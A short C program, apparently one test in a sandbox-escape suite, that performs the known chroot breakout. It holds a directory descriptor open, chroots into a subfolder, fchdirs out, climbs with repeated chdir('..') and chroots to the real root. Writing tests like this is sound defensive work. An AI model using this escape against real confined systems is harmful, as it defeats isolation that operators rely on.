/* chroot, with the folder held open through which one climbs out of it. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/stat.h>
#include "attack.h"

int main(void) {
  int outside = open(".", O_RDONLY | O_DIRECTORY);
  mkdir("cell", 0755);
  if (!attempt("chroot", chroot("cell"))) return 0;
  if (fchdir(outside) < 0) return 1;
  for (int i = 0; i < 64; i++)
    if (chdir("..") < 0) return 1;
  attempt("climbed out by chroot", chroot("."));
  return 0;
}
